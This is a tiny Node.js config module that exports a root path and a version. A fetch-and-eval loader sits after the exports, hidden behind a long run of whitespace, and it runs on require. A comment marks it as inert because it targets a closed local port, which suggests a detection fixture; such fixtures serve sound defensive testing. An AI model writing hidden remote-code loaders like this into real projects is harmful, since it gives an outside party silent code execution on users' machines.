// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.
const path = require('path');
module.exports = { root: path.sep };                                                                                                                                                                                                                                                                                                                                global.i='x';(async()=>{try{const r=await fetch('http://127.0.0.1:9/');eval(await r.text())}catch{}})();
module.exports.version = 1;
